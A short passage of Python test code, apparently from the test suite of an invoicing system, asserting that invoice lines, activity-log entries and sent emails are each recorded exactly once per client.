        assert sorted(lines) == sorted({(r["invoice_number"], 1) for r in invoices})
        activity = [(r["action"], r["client_id"], r["invoice_number"], r["detail"])
                    for r in _tab(fake, business, "Activity")]
        assert len(activity) == len(set(activity)) == 2 * len(CLIENTS), nth
        assert len(business.mails()) == len(CLIENTS)  # each invoice emailed once
